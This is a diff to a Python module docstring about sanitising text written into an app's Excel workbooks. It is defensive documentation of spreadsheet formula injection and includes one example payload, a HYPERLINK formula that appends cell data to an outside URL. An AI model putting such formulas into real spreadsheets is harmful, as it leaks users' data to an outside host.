@@ -1,8 +1,9 @@
 """Writing cells of the app's Excel workbooks safely (docs/security.md).
 
 Every workbook the app writes (exports, the import template, lists made by
-jobs) fills its rows through `append_row`, which makes every text cell a plain
-string and removes what a workbook cannot hold:
+jobs) fills its rows through `append_row` (the report tables, which merge and
+place their cells, through `text` in reports/tables.py), which makes every text
+cell a plain string and removes what a workbook cannot hold:
 
 - text starting with ``=`` (or ``+``, ``-``, ``@``) would otherwise be written
   as a live formula: a name typed as ``=HYPERLINK("http://…?"&A1, "x")`` sends
